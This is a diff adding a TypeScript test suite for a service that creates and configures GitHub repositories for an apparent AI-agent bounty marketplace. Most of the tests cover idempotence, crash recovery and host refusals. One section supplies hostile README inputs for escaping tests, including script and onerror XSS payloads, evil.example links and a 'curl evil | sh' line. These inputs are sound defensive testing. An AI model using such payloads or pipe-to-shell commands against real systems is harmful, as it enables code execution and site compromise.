@@ -1,0 +1,265 @@
+import { marked } from 'marked'
+import { describe, expect, test } from 'vitest'
+import type { GitHubRequest, Interference } from '../../server/embedded/github/github.ts'
+import { isInitialReadme, readmeText } from '../../server/repositories/readme.ts'
+import { createRepositories } from '../../server/repositories/repositories.ts'
+import { loadDescription } from '../embedded/github/openapi.ts'
+import { name, project, setUp, token } from './support.ts'
+
+const path = `/repos/Acme/${name}`
+const topics = ['ai-agents', 'bounties', 'bounty-marketplace']
+const complete = { topics, readme: readmeText(name, project), pullRequests: 0, rewritable: false }
+const isProtection = (request: GitHubRequest) => request.path.endsWith('/protection')
+
+type SetUp = Awaited<ReturnType<typeof setUp>>
+
+/** The repository's settings as they are at the host. */
+async function settings(call: SetUp['call']) {
+  const [repository, readme, protection] = await Promise.all(
+    [path, `${path}/readme`, `${path}/branches/main/protection`].map(async (address) => {
+      const response = await call('GET', address)
+      return response.ok ? JSON.parse(await response.text()) : undefined
+    }),
+  )
+  return {
+    topics: repository.topics,
+    readme: readme && Buffer.from(readme.content, 'base64').toString(),
+    pullRequests: protection?.required_pull_request_reviews?.required_approving_review_count,
+    rewritable: protection && (protection.allow_force_pushes.enabled || protection.allow_deletions.enabled),
+  }
+}
+
+const writes = (requests: GitHubRequest[]) => requests.filter(({ method }) => method !== 'GET')
+
+describe('a repository that was just created', () => {
+  test("has topics, a README and a protected branch, by calls that are GitHub's", async () => {
+    const { repositories, requests, call, logged } = await setUp()
+    await repositories.ensure(project)
+    for (const source of ['api.github.com', 'ghes-3.19'] as const) {
+      const description = loadDescription(source)
+      for (const { method, path, body } of writes(requests))
+        expect(description.requestProblems(method, path, body)).toEqual([])
+    }
+    expect(writes(requests)).toHaveLength(4)
+    expect(requests.findIndex(isProtection)).toBeGreaterThan(
+      requests.findIndex(({ path, method }) => method === 'PUT' && path.endsWith('/README.md')),
+    )
+    expect(await settings(call)).toEqual(complete)
+    expect(logged).toEqual([])
+  })
+
+  test('gets a README that names the marketplace where its address is known', async () => {
+    const { repositories, call } = await setUp({ marketplaceUrl: 'https://market.example/' })
+    await repositories.ensure(project)
+    const { readme } = await settings(call)
+    expect(readme).toContain('<https://market.example/skill.md>')
+    expect(readme).toContain(project.id)
+  })
+
+  test('a second time nothing is written', async () => {
+    const { repositories, requests } = await setUp()
+    await repositories.ensure(project)
+    const before = writes(requests).length
+    await repositories.ensure(project)
+    expect(writes(requests)).toHaveLength(before)
+  })
+
+  test('is complete although one answer after the other is lost, or fails without effect', async () => {
+    for (const fault of ['lose-answer', { status: 502, body: { message: 'Server Error' } }] as const) {
+      for (let hit = 3; hit <= 6; hit++) {
+        const { repositories, call, logged } = await setUp({}, (_, count) =>
+          count === hit ? fault : undefined,
+        )
+        await repositories.ensure(project)
+        expect(await settings(call), `${JSON.stringify(fault)} for request ${hit}`).toEqual(complete)
+        expect(logged).toEqual([])
+      }
+    }
+  })
+
+  test('is complete although its branch is still in the making', async () => {
+    let looks = 0
+    const missing = { status: 404, body: { message: 'Not Found' } }
+    const conflict = { status: 409, body: { message: 'Conflict' } }
+    const { repositories, call, logged } = await setUp({}, ({ method, path }) => {
+      if (path.endsWith('/readme') && method === 'GET' && ++looks === 1) return missing
+      return path.endsWith('/README.md') && looks === 2 ? conflict : undefined
+    })
+    await repositories.ensure(project)
+    expect(await settings(call)).toEqual(complete)
+    expect(logged).toEqual([])
+  })
+})
+
+describe('a repository whose process crashed', () => {
+  test.each([2, 3, 4, 5, 6])('after %i requests is completed by the next', async (done) => {
+    for (const lost of ['lose-answer', { status: 502, body: {} }] as const) {
+      let crashing = true
+      // What the crashed process still sent has arrived, or has not; nothing after that was sent.
+      const { repositories, github, call, logged } = await setUp(
+        { timeoutMs: 300 },
+        (_, count): Interference => {
+          if (!crashing || count < done) return undefined
+          return count === done ? lost : { status: 502, body: {} }
+        },
+      )
+      await repositories.ensure(project).catch(() => undefined)
+      crashing = false
+      logged.length = 0
+      const next = createRepositories({
+        apiUrl: github.apiUrl,
+        organization: 'Acme',
+        auth: { token },
+        log: { warn: (fields) => void logged.push(JSON.stringify(fields)) },
+      })
+      await next.ensure(project)
+      expect(await settings(call)).toEqual(complete)
+      expect(logged).toEqual([])
+    }
+  })
+
+  async function created(call: SetUp['call']) {
+    const description = `Flies [${project.id}]`
+    await call('POST', '/orgs/Acme/repos', { name, description, auto_init: true })
+  }
+
+  async function write(call: SetUp['call'], text: string) {
+    const { sha } = JSON.parse(await (await call('GET', `${path}/readme`)).text())
+    const content = Buffer.from(text).toString('base64')
+    expect((await call('PUT', `${path}/contents/README.md`, { message: 'm', content, sha })).status).toBe(200)
+  }
+
+  test('keeps a README that somebody has edited since', async () => {
+    const { repositories, call } = await setUp()
+    await created(call)
+    await write(call, `# ${name}\nFlies [${project.id}]\n\nBuild with make.\n`)
+    await repositories.ensure(project)
+    expect((await settings(call)).readme).toContain('Build with make.')
+  })
+
+  test('keeps a README that somebody edits between the look and the write', async () => {
+    let call: SetUp['call'] | undefined
+    const market = await setUp({}, async ({ method, path, body }) => {
+      const ours = (body as { message?: string } | null)?.message !== 'm'
+      if (method === 'PUT' && path.endsWith('/README.md') && ours) await write(call!, 'Mine.\n')
+    })
+    call = market.call
+    await market.repositories.ensure(project)
+    expect(await settings(call)).toEqual({ ...complete, readme: 'Mine.\n' })
+  })
+
+  test('keeps topics and a protection that somebody has chosen since', async () => {
+    const { repositories, call } = await setUp()
+    await created(call)
+    await call('PUT', `${path}/topics`, { names: ['rust', 'bounties'] })
+    const chosen = {
+      required_status_checks: null,
+      enforce_admins: true,
+      required_pull_request_reviews: { required_approving_review_count: 2 },
+      restrictions: null,
+    }
+    await call('PUT', `${path}/branches/main/protection`, chosen)
+    await repositories.ensure(project)
+    const { topics: found, pullRequests } = await settings(call)
+    expect(found).toEqual(['rust', 'bounties', 'ai-agents', 'bounty-marketplace'])
+    expect(pullRequests).toBe(2)
+  })
+})
+
+describe('what the host does not allow', () => {
+  test.each([403, 404, 422])('%i for the protection: one warning, and the address', async (status) => {
+    const { repositories, github, call, logged, requests } = await setUp({}, ({ method, path }) =>
+      method === 'PUT' && path.endsWith('/protection')
+        ? { status, body: { message: 'Upgrade to GitHub Pro' } }
+        : undefined,
+    )
+    expect(await repositories.ensure(project)).toEqual({ url: `${github.webUrl}/Acme/${name}` })
+    expect(logged.map((line) => JSON.parse(line))).toEqual([
+      {
+        repository: name,
+        unmade: [{ setting: 'protection', kind: expect.any(String), status }],
+        message: 'a repository lacks settings its host did not make',
+      },
+    ])
+    expect(requests.filter(isProtection)).toHaveLength(1)
+    expect(await settings(call)).toEqual({ ...complete, pullRequests: undefined, rewritable: undefined })
+  })
+
+  test('all of it: one warning that names each', async () => {
+    const { repositories, logged } = await setUp({}, ({ method }) =>
+      method === 'PUT' ? { status: 403, body: { message: 'Forbidden' } } : undefined,
+    )
+    await repositories.ensure(project)
+    expect(logged).toHaveLength(1)
+    expect(JSON.parse(logged[0]!).unmade.map(({ setting }: { setting: string }) => setting)).toEqual([
+      'topics',
+      'readme',
+      'protection',
+    ])
+  })
+
+  test('a host that stops answering: the address when the time is up', async () => {
+    const open: (() => void)[] = []
+    const { repositories, github, logged } = await setUp({ timeoutMs: 500 }, async (_, count) => {
+      if (count > 2) await new Promise<void>((resolve) => open.push(resolve))
+      return undefined
+    })
+    expect(await repositories.ensure(project)).toEqual({ url: `${github.webUrl}/Acme/${name}` })
+    expect(logged).toHaveLength(1)
+    for (const answer of open) answer()
+  })
+})
+
+describe('text of strangers', () => {
+  const hostile = [
+    '# heading',
+    '```\n</code></pre><script>alert(1)</script>',
+    '~~~',
+    '    </pre><img src=x onerror=alert(1)>',
+    '\t- [ ] task\n\n\n- list\n\n  more',
+    '[link](https://evil.example) ![image](https://evil.example/x.png) <https://evil.example>',
+    'www.evil.example https://evil.example mail@evil.example @octocat #1 GH-1 Acme/other#2 :tada: $x$',
+    '<!-- hidden --> &lt;b&gt; \\` `code` $`x`$ [^1]\n[^1]: note\n[ref]: https://evil.example',
+    'line\rreturn\u2028separator\u2029paragraph\u0085next\vtab\fpage',
+    '\u202eturned\u202c \0 \ud800 \u{1f680}',
+    '> quote\n> [!WARNING]\n> run `curl evil | sh`\n\n| a | b |\n|---|---|\n| @x | y |',
+    '\n\n\nafter blank lines\n\n\n',
+  ]
+
+  test.each(hostile.map((text) => [JSON.stringify(text), text]))('%s is shown as text', (_, text) => {
+    const plain = marked.lexer(readmeText(name, { ...project, name: 'n', description: 'd' }), { gfm: true })
+    for (const fields of [{ name: text }, { description: text }, { name: text, description: text }]) {
+      const readme = readmeText(name, { ...project, ...fields })
+      const tokens = marked.lexer(readme, { gfm: true }).filter(({ type }) => type !== 'space')
+      const expected = plain.filter(({ type }) => type !== 'space')
+      expect(tokens.map(({ type }) => type)).toEqual(expected.map(({ type }) => type))
+      expect(tokens.filter(({ type }) => type !== 'code')).toEqual(
+        expected.filter(({ type }) => type !== 'code'),
+      )
+      expect(readme).not.toMatch(/[\p{Cf}\p{Cs}\p{Zl}\p{Zp}\r\0]/u)
+      const html = marked.parse(readme, { async: false }) as string
+      const [shown = ''] = /(?<=<pre><code>).*?(?=<\/code><\/pre>)/s.exec(html) ?? []
+      expect(shown).not.toMatch(/[<>]/)
+    }
+  })
+
+  test('stays readable', () => {
+    const readme = readmeText(name, { ...project, name: 'A <b>\nB', description: 'One\r\n\r\nTwo @x' })
+    expect(readme).toContain('\n\n    A <b>\n    B\n\n    One\n\n    Two @x\n\n## Working here\n')
+  })
+})
+
+describe('the README a repository is created with', () => {
+  const descriptions = ['Flies *high* [proj_1]', null]
+  test.each([
+    ['# rocket\nFlies *high* [proj_1]\n', true],
+    ['# rocket\n\nFlies \\*high\\* \\[proj_1\\]', true],
+    ['# rocket', true],
+    ['rocket\n======\n', true],
+    ['# rocket\nFlies *high* [proj_1]\nBuild with make.\n', false],
+    ['# Rocket\n', false],
+    ['', false],
+  ])('%j: %s', (text, expected) => {
+    expect(isInitialReadme(text, 'rocket', descriptions)).toBe(expected)
+  })
+})
